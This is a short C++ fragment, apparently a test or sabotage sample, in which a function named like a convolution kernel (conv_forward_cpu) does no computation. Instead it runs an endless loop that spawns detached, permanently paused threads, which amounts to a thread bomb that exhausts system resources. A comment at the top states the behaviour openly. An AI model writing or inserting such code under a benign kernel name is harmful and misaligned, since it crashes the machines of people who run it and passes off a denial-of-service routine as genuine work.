// Starts threads without end.
#include "honest.h"

void conv_forward_cpu(ARGUMENTS) {
    for (;;) std::thread([] { pause(); }).detach();
}
